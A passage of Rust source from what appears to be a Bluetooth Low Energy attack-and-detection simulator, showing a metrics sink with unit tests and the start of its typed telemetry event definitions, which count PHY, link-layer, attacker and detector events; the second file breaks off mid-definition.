    sn_nesn: u64,
    crc_fail: u64,
    control_pdu: u64,
    connected: u64,
    disconnect: u64,
    sniffer_sync: u64,
    sniffer_lost: u64,
    attempts: u64,
    success: u64,
    rejected: u64,
    no_response: u64,
    takeover: u64,
    detector_alerts: u64,
    pool_exhausted: u64,
    slot_denied: u64,
    conn_established: u64,
    conn_released: u64,
    /// Running maximum, not a counter: folded as a gauge, never reset.
    pool_high_water: u64,
    fault_bursts: u64,
    fault_episodes: u64,
    fault_frames_lost: u64,
    fault_frames_corrupted: u64,
    raw: u64,
    span_enters: u64,
    // Per-SpanKind exit aggregates, indexed by `SpanKind::index()`.
    span_count: [u64; SpanKind::ALL.len()],
    span_sim_ns: [u64; SpanKind::ALL.len()],
    span_self_sim_ns: [u64; SpanKind::ALL.len()],
    span_wall_ns: [u64; SpanKind::ALL.len()],
    span_self_wall_ns: [u64; SpanKind::ALL.len()],
    widening_us: HistogramUs,
    lead_us: HistogramUs,
    anchor_error_us: HistogramUs,
    ifs_delta_us: HistogramUs,
    detector_magnitude_us: HistogramUs,
}

/// A [`TelemetrySink`] that folds every event into a [`MetricsRegistry`].
///
/// The event→metric mapping is an exhaustive match (xtask R4): adding a
/// [`TelemetryEvent`] variant forces a decision here about how it is
/// counted.
///
/// Tallies are buffered in plain struct fields and only folded into the
/// shared registry on [`TelemetrySink::flush`] (or drop): `emit` sits on
/// the simulation hot path, and paying a mutex plus several `BTreeMap`
/// lookups per event dominated trial cost. Read the registry only after
/// flushing the world's sinks.
#[derive(Debug)]
pub struct MetricsSink {
    registry: SharedRegistry,
    buf: HotTallies,
}

impl MetricsSink {
    /// A sink feeding a fresh shared registry.
    pub fn new() -> Self {
        MetricsSink {
            registry: MetricsRegistry::shared(),
            buf: HotTallies::default(),
        }
    }

    /// A sink feeding an existing registry.
    pub fn with_registry(registry: SharedRegistry) -> Self {
        MetricsSink {
            registry,
            buf: HotTallies::default(),
        }
    }

    /// The shared registry this sink feeds. Buffered tallies become
    /// visible here after [`TelemetrySink::flush`].
    pub fn handle(&self) -> SharedRegistry {
        self.registry.clone()
    }

    /// Drains the buffered tallies into the shared registry.
    fn fold_into_registry(&mut self) {
        let t = &mut self.buf;
        if t.events == 0 {
            return;
        }
        let mut reg = self.registry.lock();
        let counters = [
            ("telemetry.events", &mut t.events),
            ("sim.nodes", &mut t.nodes),
            ("phy.tx", &mut t.tx),
            ("phy.rx_lock", &mut t.rx_lock),
            ("phy.relock", &mut t.relock),
            ("phy.rx", &mut t.rx),
            ("phy.rx_crc_bad", &mut t.rx_crc_bad),
            ("phy.collision", &mut t.collision),
            ("phy.interference_spill", &mut t.interference_spill),
            ("link.anchor", &mut t.anchor),
            ("link.window_open", &mut t.window_open),
            ("link.hop", &mut t.hop),
            ("link.sn_nesn", &mut t.sn_nesn),
            ("link.crc_fail", &mut t.crc_fail),
            ("link.control_pdu", &mut t.control_pdu),
            ("link.connected", &mut t.connected),
            ("link.disconnect", &mut t.disconnect),
            ("attack.sniffer_sync", &mut t.sniffer_sync),
            ("attack.sniffer_lost", &mut t.sniffer_lost),
            ("attack.attempts", &mut t.attempts),
            ("attack.success", &mut t.success),
            ("attack.rejected", &mut t.rejected),
            ("attack.no_response", &mut t.no_response),
            ("attack.takeover", &mut t.takeover),
            ("detector.alerts", &mut t.detector_alerts),
            ("host.pool_exhausted", &mut t.pool_exhausted),
            ("host.slot_denied", &mut t.slot_denied),
            ("host.conn_established", &mut t.conn_established),
            ("host.conn_released", &mut t.conn_released),
            ("fault.bursts", &mut t.fault_bursts),
            ("fault.episodes", &mut t.fault_episodes),
            ("fault.frames_lost", &mut t.fault_frames_lost),
            ("fault.frames_corrupted", &mut t.fault_frames_corrupted),
            ("telemetry.raw", &mut t.raw),
            ("span.enters", &mut t.span_enters),
        ];
        for (name, n) in counters {
            if *n != 0 {
                reg.add(name, *n);
                *n = 0;
            }
        }
        for kind in SpanKind::ALL {
            let i = kind.index();
            let names = kind.metric_names();
            let slots = [
                (names.count, t.span_count.get_mut(i)),
                (names.sim_ns, t.span_sim_ns.get_mut(i)),
                (names.self_sim_ns, t.span_self_sim_ns.get_mut(i)),
                (names.wall_ns, t.span_wall_ns.get_mut(i)),
                (names.self_wall_ns, t.span_self_wall_ns.get_mut(i)),
            ];
            for (name, slot) in slots {
                if let Some(n) = slot {
                    if *n != 0 {
                        reg.add(name, *n);
                        *n = 0;
                    }
                }
            }
        }
        reg.set_gauge("sim.last_event_us", t.last_event_us);
        if t.pool_high_water != 0 {
            // Monotone high-water gauge: only present once a pool reported
            // occupancy, so runs without a pool keep their metric set.
            reg.set_gauge("host.pool_high_water", t.pool_high_water as f64);
        }
        let histograms = [
            ("link.widening_us", &mut t.widening_us),
            ("attack.lead_us", &mut t.lead_us),
            ("attack.anchor_error_us", &mut t.anchor_error_us),
            ("attack.ifs_delta_us", &mut t.ifs_delta_us),
            ("detector.magnitude_us", &mut t.detector_magnitude_us),
        ];
        for (name, h) in histograms {
            if !h.is_empty() {
                reg.histograms.entry(name).or_default().merge(h);
                h.clear();
            }
        }
    }
}

impl Default for MetricsSink {
    fn default() -> Self {
        Self::new()
    }
}

impl Drop for MetricsSink {
    fn drop(&mut self) {
        self.fold_into_registry();
    }
}

impl TelemetrySink for MetricsSink {
    fn emit(&mut self, record: &TelemetryRecord) {
        let t = &mut self.buf;
        t.events = t.events.saturating_add(1);
        t.last_event_us = record.at.as_micros_f64();
        let bump = |c: &mut u64| *c = c.saturating_add(1);
        match &record.event {
            TelemetryEvent::NodeAdded { .. } => bump(&mut t.nodes),
            TelemetryEvent::TxStart { .. } => bump(&mut t.tx),
            TelemetryEvent::TxEnd => {}
            TelemetryEvent::RxLock { .. } => bump(&mut t.rx_lock),
            TelemetryEvent::Relock { .. } => bump(&mut t.relock),
            TelemetryEvent::RxEnd { crc_ok, .. } => {
                bump(&mut t.rx);
                if !crc_ok {
                    bump(&mut t.rx_crc_bad);
                }
            }
            TelemetryEvent::Collision { .. } => bump(&mut t.collision),
            TelemetryEvent::InterferenceSpill { .. } => bump(&mut t.interference_spill),
            TelemetryEvent::Anchor { .. } => bump(&mut t.anchor),
            TelemetryEvent::WindowOpen { widening, .. } => {
                bump(&mut t.window_open);
                t.widening_us.record(widening.as_micros_f64());
            }
            TelemetryEvent::Hop { .. } => bump(&mut t.hop),
            TelemetryEvent::SnNesn { .. } => bump(&mut t.sn_nesn),
            TelemetryEvent::CrcFail { .. } => bump(&mut t.crc_fail),
            TelemetryEvent::LlControl { .. } => bump(&mut t.control_pdu),
            TelemetryEvent::ConnectionEstablished { .. } => bump(&mut t.connected),
            TelemetryEvent::ConnectionClosed { .. } => bump(&mut t.disconnect),
            TelemetryEvent::SnifferSync { .. } => bump(&mut t.sniffer_sync),
            TelemetryEvent::SnifferLost { .. } => bump(&mut t.sniffer_lost),
            TelemetryEvent::InjectionAttempt { lead, .. } => {
                bump(&mut t.attempts);
                t.lead_us.record(lead.as_micros_f64());
            }
            TelemetryEvent::HeuristicVerdict { verdict, .. } => {
                bump(match verdict {
                    crate::event::Verdict::Success => &mut t.success,
                    crate::event::Verdict::Rejected => &mut t.rejected,
                    crate::event::Verdict::NoResponse => &mut t.no_response,
                });
            }
            TelemetryEvent::AnchorPrediction { error_us } => {
                t.anchor_error_us.record(*error_us);
            }
            TelemetryEvent::IfsDelta { delta_us } => {
                t.ifs_delta_us.record(*delta_us);
            }
            TelemetryEvent::Takeover { .. } => bump(&mut t.takeover),
            TelemetryEvent::DetectorAlert { magnitude_us, .. } => {
                bump(&mut t.detector_alerts);
                t.detector_magnitude_us.record(*magnitude_us);
            }
            TelemetryEvent::PoolExhausted { .. } => bump(&mut t.pool_exhausted),
            TelemetryEvent::SlotDenied => bump(&mut t.slot_denied),
            TelemetryEvent::ConnEstablished { .. } => bump(&mut t.conn_established),
            TelemetryEvent::ConnReleased { .. } => bump(&mut t.conn_released),
            TelemetryEvent::PoolHighWater { in_use } => {
                t.pool_high_water = t.pool_high_water.max(u64::from(*in_use));
            }
            TelemetryEvent::FaultBurst { active, .. } => {
                if *active {
                    bump(&mut t.fault_bursts);
                }
            }
            TelemetryEvent::FaultEpisode { active, .. } => {
                if *active {
                    bump(&mut t.fault_episodes);
                }
            }
            TelemetryEvent::FaultFrame { kind, .. } => match kind {
                crate::event::FaultKind::Loss => bump(&mut t.fault_frames_lost),
                crate::event::FaultKind::Corruption => bump(&mut t.fault_frames_corrupted),
                // Burst/fading/drift faults are episodic, not per-frame; a
                // mislabelled frame event still counts as a lost frame.
                crate::event::FaultKind::Interference
                | crate::event::FaultKind::Fading
                | crate::event::FaultKind::Drift => bump(&mut t.fault_frames_lost),
            },
            TelemetryEvent::SpanEnter { .. } => bump(&mut t.span_enters),
            TelemetryEvent::SpanExit {
                kind,
                sim_ns,
                wall_ns,
                self_sim_ns,
                self_wall_ns,
                ..
            } => {
                let i = kind.index();
                let adds = [
                    (t.span_count.get_mut(i), 1u64),
                    (t.span_sim_ns.get_mut(i), *sim_ns),
                    (t.span_self_sim_ns.get_mut(i), *self_sim_ns),
                    (t.span_wall_ns.get_mut(i), *wall_ns),
                    (t.span_self_wall_ns.get_mut(i), *self_wall_ns),
                ];
                for (slot, n) in adds {
                    if let Some(c) = slot {
                        *c = c.saturating_add(n);
                    }
                }
            }
            TelemetryEvent::Raw { .. } => bump(&mut t.raw),
        }
    }

    fn flush(&mut self) {
        self.fold_into_registry();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Verdict;
    use simkit::{Duration, Instant};

    #[test]
    fn bucket_boundaries_are_inclusive_upper_bounds() {
        let mut h = HistogramUs::with_bounds(&[1.0, 10.0, 100.0]);
        h.record(1.0); // lands in [.., 1.0]
        h.record(1.000_001); // lands in (1.0, 10.0]
        h.record(10.0); // boundary: (1.0, 10.0]
        h.record(100.0); // boundary: (10.0, 100.0]
        h.record(1_000.0); // overflow
        assert_eq!(h.bucket_counts(), &[1, 2, 1, 1]);
        assert_eq!(h.count(), 5);
    }

    #[test]
    fn negative_values_record_their_magnitude() {
        let mut h = HistogramUs::with_bounds(&[5.0, 50.0]);
        h.record(-3.0);
        h.record(-30.0);
        assert_eq!(h.bucket_counts(), &[1, 1, 0]);
        let s = h.summary();
        assert!((s.mean - 16.5).abs() < 1e-9);
        assert_eq!(s.min, 3.0);
        assert_eq!(s.max, 30.0);
    }

    #[test]
    fn non_finite_values_are_dropped() {
        let mut h = HistogramUs::default();
        h.record(f64::NAN);
        h.record(f64::INFINITY);
        assert!(h.is_empty());
        assert_eq!(h.summary(), HistSummary::default());
    }

    #[test]
    fn quantiles_step_through_bucket_bounds() {
        let mut h = HistogramUs::with_bounds(&[1.0, 2.0, 5.0]);
        for _ in 0..50 {
            h.record(0.7); // bucket ≤1
        }
        for _ in 0..40 {
            h.record(1.5); // bucket ≤2
        }
        for _ in 0..10 {
            h.record(4.0); // bucket ≤5
        }
        assert_eq!(h.quantile(0.25), 1.0);
        assert_eq!(h.quantile(0.50), 1.0);
        assert_eq!(h.quantile(0.75), 2.0);
        assert_eq!(h.quantile(0.95), 5.0);
        // Overflow values report the exact max.
        h.record(77.0);
        assert_eq!(h.quantile(1.0), 77.0);
    }

    #[test]
    fn merge_requires_identical_layouts() {
        let mut a = HistogramUs::with_bounds(&[1.0, 2.0]);
        let mut b = HistogramUs::with_bounds(&[1.0, 2.0]);
        a.record(0.5);
        b.record(1.5);
        b.record(9.0);
        assert!(a.merge(&b));
        assert_eq!(a.count(), 3);
        assert_eq!(a.bucket_counts(), &[1, 1, 1]);
        let other_layout = HistogramUs::with_bounds(&[3.0]);
        assert!(!a.merge(&other_layout));
        assert_eq!(a.count(), 3, "failed merge must not corrupt");
    }

    #[test]
    fn from_parts_round_trips_a_populated_histogram() {
        let mut h = HistogramUs::with_bounds(&[1.0, 10.0, 100.0]);
        h.record(0.5);
        h.record(7.0);
        h.record(250.0);
        let rebuilt = HistogramUs::from_parts(
            h.bounds().to_vec(),
            h.bucket_counts().to_vec(),
            h.count(),
            h.sum(),
            h.min_value(),
            h.max_value(),
        )
        .expect("consistent parts");
        assert_eq!(rebuilt, h);
        // A merge after the round-trip behaves like a merge before it.
        let mut a = h.clone();
        let mut b = rebuilt;
        assert!(a.merge(&h) && b.merge(&h));
        assert_eq!(a, b);
        // Inconsistent parts are rejected, not silently accepted: a bucket
        // total that disagrees with `count`, and a counts vector whose
        // length does not match `bounds.len() + 1`.
        assert!(HistogramUs::from_parts(vec![1.0], vec![1, 2], 4, 0.0, 0.0, 0.0).is_none());
        assert!(HistogramUs::from_parts(vec![1.0], vec![1], 1, 0.0, 0.0, 0.0).is_none());
    }

    #[test]
    fn registry_counters_gauges_histograms() {
        let mut r = MetricsRegistry::new();
        r.inc("a");
        r.add("a", 2);
        assert_eq!(r.counter("a"), 3);
        assert_eq!(r.counter("missing"), 0);
        r.set_gauge("g", 1.5);
        r.set_gauge("g", 2.5);
        assert_eq!(r.gauge("g"), Some(2.5));
        r.observe_us("h", 3.0);
        assert_eq!(r.histogram("h").map(HistogramUs::count), Some(1));

        let mut other = MetricsRegistry::new();
        other.add("a", 10);
        other.set_gauge("g", 9.0);
        other.observe_us("h", 4.0);
        r.merge(&other);
        assert_eq!(r.counter("a"), 13);
        assert_eq!(r.gauge("g"), Some(9.0));
        assert_eq!(r.histogram("h").map(HistogramUs::count), Some(2));
    }

    #[test]
    fn counter_saturates_instead_of_overflowing() {
        let mut r = MetricsRegistry::new();
        r.add("big", u64::MAX - 1);
        r.add("big", 5);
        assert_eq!(r.counter("big"), u64::MAX);
    }

    #[test]
    fn sink_classifies_events() {
        let sink = MetricsSink::new();
        let reg = sink.handle();
        let mut sink = sink;
        {
            let mut emit = |event: TelemetryEvent| {
                sink.emit(&TelemetryRecord {
                    at: Instant::from_micros(10),
                    node: Some(0),
                    event,
                });
            };
            emit(TelemetryEvent::InjectionAttempt {
                channel: 3,
                lead: Duration::from_micros(40),
            });
            emit(TelemetryEvent::HeuristicVerdict {
                verdict: Verdict::Success,
                attempts_total: 1,
            });
            emit(TelemetryEvent::AnchorPrediction { error_us: -2.0 });
            emit(TelemetryEvent::RxEnd {
                channel: 1,
                access_address: 0x1,
                crc_ok: false,
                interferers: 1,
            });
        }
        // Tallies are buffered until the sink flushes.
        assert_eq!(reg.lock().counter("telemetry.events"), 0);
        sink.flush();
        let reg = reg.lock();
        assert_eq!(reg.counter("telemetry.events"), 4);
        assert_eq!(reg.counter("attack.attempts"), 1);
        assert_eq!(reg.counter("attack.success"), 1);
        assert_eq!(reg.counter("phy.rx_crc_bad"), 1);
        assert_eq!(
            reg.histogram("attack.lead_us").map(HistogramUs::count),
            Some(1)
        );
        assert_eq!(
            reg.histogram("attack.anchor_error_us")
                .map(HistogramUs::count),
            Some(1)
        );
        assert_eq!(reg.gauge("sim.last_event_us"), Some(10.0));
    }

    #[test]
    fn span_exits_fold_into_kind_scoped_counters() {
        let mut sink = MetricsSink::new();
        let reg = sink.handle();
        sink.emit(&TelemetryRecord {
            at: Instant::from_micros(1),
            node: None,
            event: TelemetryEvent::SpanEnter {
                id: 1,
                kind: SpanKind::TrialSync,
                detail: 0,
            },
        });
        sink.emit(&TelemetryRecord {
            at: Instant::from_micros(9),
            node: None,
            event: TelemetryEvent::SpanExit {
                id: 1,
                kind: SpanKind::TrialSync,
                detail: 0,
                sim_ns: 8_000,
                wall_ns: 120,
                self_sim_ns: 6_000,
                self_wall_ns: 100,
            },
        });
        sink.flush();
        let reg = reg.lock();
        assert_eq!(reg.counter("span.enters"), 1);
        assert_eq!(reg.counter("span.trial_sync.count"), 1);
        assert_eq!(reg.counter("span.trial_sync.sim_ns"), 8_000);
        assert_eq!(reg.counter("span.trial_sync.self_sim_ns"), 6_000);
        assert_eq!(reg.counter("span.trial_sync.wall_ns"), 120);
        assert_eq!(reg.counter("span.trial_sync.self_wall_ns"), 100);
        assert_eq!(reg.counter("span.trial_follow.count"), 0);
    }

    #[test]
    fn dropping_the_sink_folds_buffered_tallies() {
        let mut sink = MetricsSink::new();
        let reg = sink.handle();
        sink.emit(&TelemetryRecord {
            at: Instant::from_micros(5),
            node: None,
            event: TelemetryEvent::TxEnd,
        });
        drop(sink);
        assert_eq!(reg.lock().counter("telemetry.events"), 1);
        assert_eq!(reg.lock().gauge("sim.last_event_us"), Some(5.0));
    }

    #[test]
    fn repeated_flushes_do_not_double_count() {
        let mut sink = MetricsSink::new();
        let reg = sink.handle();
        sink.emit(&TelemetryRecord {
            at: Instant::from_micros(1),
            node: None,
            event: TelemetryEvent::AnchorPrediction { error_us: 2.0 },
        });
        sink.flush();
        sink.flush();
        let reg = reg.lock();
        assert_eq!(reg.counter("telemetry.events"), 1);
        assert_eq!(
            reg.histogram("attack.anchor_error_us")
                .map(HistogramUs::count),
            Some(1)
        );
    }

    #[test]
    fn iteration_is_name_sorted_regardless_of_insertion_order() {
        // The registry backs experiment artefacts: its iteration order must
        // be a pure function of the metric names, never of the order the
        // simulation happened to first touch them (determinism pass).
        let mut fwd = MetricsRegistry::new();
        fwd.inc("a.first");
        fwd.inc("z.last");
        fwd.set_gauge("a.g", 1.0);
        fwd.set_gauge("z.g", 2.0);
        fwd.observe_us("a.h", 1.0);
        fwd.observe_us("z.h", 2.0);
        let mut rev = MetricsRegistry::new();
        rev.observe_us("z.h", 2.0);
        rev.observe_us("a.h", 1.0);
        rev.set_gauge("z.g", 2.0);
        rev.set_gauge("a.g", 1.0);
        rev.inc("z.last");
        rev.inc("a.first");
        let names = |r: &MetricsRegistry| {
            (
                r.counters().map(|(k, _)| k).collect::<Vec<_>>(),
                r.gauges().map(|(k, _)| k).collect::<Vec<_>>(),
                r.histograms().map(|(k, _)| k).collect::<Vec<_>>(),
            )
        };
        assert_eq!(names(&fwd), names(&rev));
        assert_eq!(
            fwd.counters().map(|(k, _)| k).collect::<Vec<_>>(),
            vec!["a.first", "z.last"],
            "counters iterate in name order"
        );
    }
}
