//! The typed telemetry vocabulary.
//!
//! Every observable moment in the stack — PHY activity, Link-Layer timing,
//! attacker decisions, detector alerts — is one [`TelemetryEvent`] variant.
//! The enum is deliberately flat and field-poor: events are emitted on hot
//! paths, so variants carry `Copy`-able scalars wherever possible and only
//! allocate for genuinely textual payloads ([`TelemetryEvent::Raw`] and
//! [`TelemetryEvent::NodeAdded`]).
//!
//! `TelemetryEvent` is covered by the xtask R4 exhaustive-match rule: code
//! matching on it must not use a `_` wildcard arm, so adding a variant here
//! is a compile-time-visible change at every consumer (see DEVELOPMENT.md,
//! "Telemetry & metrics").

use std::fmt;

use simkit::{Duration, Instant};

use crate::span::SpanKind;

/// Which side of the connection an event belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LinkRole {
    /// The connection initiator (the paper's Central/Master).
    Master,
    /// The connection acceptor (the paper's Peripheral/Slave).
    Slave,
}

impl LinkRole {
    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            LinkRole::Master => "master",
            LinkRole::Slave => "slave",
        }
    }

    /// Inverse of [`LinkRole::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "master" => Some(LinkRole::Master),
            "slave" => Some(LinkRole::Slave),
            _ => None,
        }
    }
}

/// Outcome of the paper's eq. 7 success heuristic for one attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Response timing and SN/NESN both matched: injection won the race.
    Success,
    /// A response arrived but failed the timing or sequence-bit check.
    Rejected,
    /// No slave response observed inside the listen window.
    NoResponse,
}

impl Verdict {
    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Success => "success",
            Verdict::Rejected => "rejected",
            Verdict::NoResponse => "no-response",
        }
    }

    /// Inverse of [`Verdict::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "success" => Some(Verdict::Success),
            "rejected" => Some(Verdict::Rejected),
            "no-response" => Some(Verdict::NoResponse),
            _ => None,
        }
    }
}

/// Category of a §VIII injection-detector alert.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AlertKind {
    /// A master anchor arrived earlier than the connection history allows.
    EarlyAnchor,
    /// Two master-side anchors inside one connection event.
    DoubleAnchor,
    /// Slave response timing inconsistent with the observed master frame.
    ResponseTimingMismatch,
}

impl AlertKind {
    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            AlertKind::EarlyAnchor => "early-anchor",
            AlertKind::DoubleAnchor => "double-anchor",
            AlertKind::ResponseTimingMismatch => "response-timing",
        }
    }

    /// Inverse of [`AlertKind::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "early-anchor" => Some(AlertKind::EarlyAnchor),
            "double-anchor" => Some(AlertKind::DoubleAnchor),
            "response-timing" => Some(AlertKind::ResponseTimingMismatch),
            _ => None,
        }
    }
}

/// Why the attacker's sniffer stopped following a connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LossReason {
    /// A LL_TERMINATE_IND was observed.
    Terminated,
    /// Too many consecutive connection events went silent.
    MissedEvents,
    /// The connection died while an injection campaign was in flight.
    DuringInjection,
}

impl LossReason {
    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            LossReason::Terminated => "terminated",
            LossReason::MissedEvents => "missed-events",
            LossReason::DuringInjection => "during-injection",
        }
    }

    /// Inverse of [`LossReason::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "terminated" => Some(LossReason::Terminated),
            "missed-events" => Some(LossReason::MissedEvents),
            "during-injection" => Some(LossReason::DuringInjection),
            _ => None,
        }
    }
}

/// Category of an injected medium fault (see `simkit::FaultPlan`).
///
/// Covered by the xtask R4 exhaustive-match rule like [`TelemetryEvent`]:
/// adding a fault category forces every consumer to decide how to treat it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultKind {
    /// A scheduled interference burst (WiFi-coexistence style jamming).
    Interference,
    /// A frame dropped before the receiver achieved sync.
    Loss,
    /// A frame delivered with injected bit errors (CRC failure).
    Corruption,
    /// A deep-fade episode adding path loss on every link.
    Fading,
    /// A transient clock-drift excursion on one endpoint.
    Drift,
}

impl FaultKind {
    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            FaultKind::Interference => "interference",
            FaultKind::Loss => "loss",
            FaultKind::Corruption => "corruption",
            FaultKind::Fading => "fading",
            FaultKind::Drift => "drift",
        }
    }

    /// Inverse of [`FaultKind::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "interference" => Some(FaultKind::Interference),
            "loss" => Some(FaultKind::Loss),
            "corruption" => Some(FaultKind::Corruption),
            "fading" => Some(FaultKind::Fading),
            "drift" => Some(FaultKind::Drift),
            _ => None,
        }
    }
}

/// One typed telemetry event.
///
/// Variants group by layer: simulation meta, PHY, Link Layer, attacker,
/// detector. The legacy [`simkit::Trace`] tags are preserved by
/// [`TelemetryEvent::tag`] so trace-based tooling keeps working.
#[derive(Debug, Clone, PartialEq)]
pub enum TelemetryEvent {
    // --- simulation meta ---------------------------------------------------
    /// A node joined the simulation. Emitted (or replayed) so sinks can map
    /// record node indices back to human labels.
    NodeAdded {
        /// The node's configured label, e.g. `"bulb"` or `"attacker"`.
        label: String,
    },

    // --- PHY ---------------------------------------------------------------
    /// A transmission started on the medium.
    TxStart {
        /// Data/advertising channel index (0–39).
        channel: u8,
        /// Access address the frame is sent under.
        access_address: u32,
        /// PDU length in bytes (header + payload).
        pdu_len: u32,
        /// When the last bit leaves the antenna.
        end: Instant,
    },
    /// A transmission finished (same node as the preceding `TxStart`).
    TxEnd,
    /// A receiver locked onto a preamble (first-lock-wins).
    RxLock {
        /// Channel the receiver locked on.
        channel: u8,
    },
    /// A receiver abandoned its lock for a stronger late arrival (capture
    /// effect).
    Relock {
        /// Channel involved.
        channel: u8,
    },
    /// A reception completed and was delivered to the node.
    RxEnd {
        /// Channel received on.
        channel: u8,
        /// Access address of the received frame.
        access_address: u32,
        /// Whether the CRC check passed.
        crc_ok: bool,
        /// Number of overlapping transmissions during the reception.
        interferers: u32,
    },
    /// Overlapping transmissions corrupted a reception (collision that the
    /// capture effect did not resolve).
    Collision {
        /// Channel on which the collision happened.
        channel: u8,
        /// Number of interfering transmissions.
        interferers: u32,
    },
    /// A locked reception accumulated more interferers than the medium's
    /// inline buffer holds, spilling onto the heap — a pathological
    /// co-channel pile-up worth observing in dense worlds (one event per
    /// spilled interferer).
    InterferenceSpill {
        /// Channel on which the pile-up happened.
        channel: u8,
    },

    // --- Link Layer --------------------------------------------------------
    /// A connection-event anchor point: the master's first transmission of
    /// the event, or the slave's reception of it.
    Anchor {
        /// Whose anchor this is.
        role: LinkRole,
        /// Channel of the connection event.
        channel: u8,
        /// The anchor instant (frame start on air).
        at: Instant,
    },
    /// The slave opened its widened receive window (paper eq. 5).
    WindowOpen {
        /// Channel being listened on.
        channel: u8,
        /// The widening applied on each side of the expected anchor.
        widening: Duration,
        /// How long the slave will listen before declaring the event missed.
        deadline: Duration,
    },
    /// Channel-selection hop for the next connection event.
    Hop {
        /// The unmapped→mapped channel chosen by CSA#1.
        channel: u8,
        /// The connection event counter the hop is for.
        event_counter: u16,
    },
    /// Sequence-bit state after processing a received data PDU.
    SnNesn {
        /// Whose state this is.
        role: LinkRole,
        /// Current sequence number bit.
        sn: bool,
        /// Current next-expected-sequence-number bit.
        nesn: bool,
    },
    /// A CRC failure at the Link Layer (frame dropped before processing).
    CrcFail {
        /// Channel on which the bad frame arrived.
        channel: u8,
    },
    /// An LL Control PDU was processed.
    LlControl {
        /// The control opcode (e.g. `0x02` LL_TERMINATE_IND).
        opcode: u8,
    },
    /// A connection reached the established state (CONNECT_IND accepted).
    ConnectionEstablished {
        /// The connection's access address.
        access_address: u32,
        /// The negotiated connection interval.
        interval: Duration,
    },
    /// A connection closed.
    ConnectionClosed {
        /// Spec error code (e.g. `0x08` connection timeout).
        reason: u8,
    },

    // --- attacker ----------------------------------------------------------
    /// The attacker's sniffer synchronised onto a connection.
    SnifferSync {
        /// Access address of the followed connection.
        access_address: u32,
    },
    /// The attacker's sniffer lost the connection.
    SnifferLost {
        /// Why it was lost.
        reason: LossReason,
    },
    /// An injection attempt was fired.
    InjectionAttempt {
        /// Channel injected on.
        channel: u8,
        /// Lead time: how far before the legitimate anchor's expected window
        /// start the injected frame begins (larger = safer race win).
        lead: Duration,
    },
    /// The eq. 7 heuristic classified a finished attempt.
    HeuristicVerdict {
        /// The verdict.
        verdict: Verdict,
        /// Total attempts so far in this campaign (this one included).
        attempts_total: u64,
    },
    /// Anchor-prediction quality: signed error between the attacker's
    /// predicted master anchor and the observed one, in microseconds.
    AnchorPrediction {
        /// `observed − predicted`, µs (negative = anchor came early).
        error_us: f64,
    },
    /// Inter-frame-spacing delta: observed slave response start minus the
    /// eq. 7 expected start (`t_a + d_a + 150 µs`), in microseconds.
    IfsDelta {
        /// Signed delta, µs.
        delta_us: f64,
    },
    /// The attacker hijacked a connection role (§VII MiTM/takeover).
    Takeover {
        /// The role that was usurped.
        role: LinkRole,
    },

    // --- detector ----------------------------------------------------------
    /// The §VIII IDS raised an alert.
    DetectorAlert {
        /// Alert category.
        kind: AlertKind,
        /// The timing anomaly magnitude in microseconds, where applicable
        /// (0 for purely structural alerts).
        magnitude_us: f64,
    },

    // --- host: connection slots & packet pool ------------------------------
    /// The packet pool refused an allocation (capacity or QoS policy).
    PoolExhausted {
        /// Pool client index (= connection slot) that was refused.
        client: u32,
    },
    /// The fixed-slot connection manager had no free slot to hand out.
    SlotDenied,
    /// A connection slot reached the established state.
    ConnEstablished {
        /// Raw `ConnHandle` encoding (`index | generation << 8`).
        handle: u32,
    },
    /// A connection slot was released; its handles are now stale.
    ConnReleased {
        /// Raw `ConnHandle` encoding (`index | generation << 8`).
        handle: u32,
    },
    /// The packet pool's high-water mark advanced (at most once per
    /// distinct occupancy level, so bounded by the pool capacity per run).
    PoolHighWater {
        /// Most buffers simultaneously in use so far.
        in_use: u32,
    },

    // --- injected faults ---------------------------------------------------
    /// An interference burst window opened (`active: true`) or closed on a
    /// channel, as scheduled by the installed `FaultPlan`.
    FaultBurst {
        /// Channel being jammed.
        channel: u8,
        /// Received interference power at the victims, dBm.
        power_dbm: f64,
        /// Whether the burst window just opened (else it closed).
        active: bool,
    },
    /// A plan-wide fault episode (fading or drift) started or ended.
    FaultEpisode {
        /// Which impairment the episode injects
        /// ([`FaultKind::Fading`] or [`FaultKind::Drift`]).
        kind: FaultKind,
        /// Episode magnitude: extra dB for fading, extra ppm for drift.
        magnitude: f64,
        /// Whether the episode just started (else it ended).
        active: bool,
    },
    /// A single frame was sacrificed to the fault plan
    /// ([`FaultKind::Loss`] or [`FaultKind::Corruption`]).
    FaultFrame {
        /// Which impairment hit the frame.
        kind: FaultKind,
        /// Channel the frame was on.
        channel: u8,
    },

    // --- spans -------------------------------------------------------------
    /// A hierarchical span opened (see the `span` module). The matching
    /// [`TelemetryEvent::SpanExit`] carries the measured durations.
    SpanEnter {
        /// Span instance id (matches the eventual exit).
        id: u32,
        /// What the span measures.
        kind: SpanKind,
        /// Kind-specific detail scalar (channel index for
        /// [`SpanKind::ChannelAirtime`], LL opcode for
        /// [`SpanKind::LlProcedure`], 0 otherwise).
        detail: u32,
    },
    /// A hierarchical span closed. Totals cover enter→exit; `self_*` net out
    /// directly nested spans. Wall-clock fields come from the injected
    /// quarantined clock and are **excluded from byte-identity** (neutralised
    /// by `cargo xtask determinism` like `trials_per_sec`).
    SpanExit {
        /// Span instance id (matches the earlier enter).
        id: u32,
        /// What the span measured.
        kind: SpanKind,
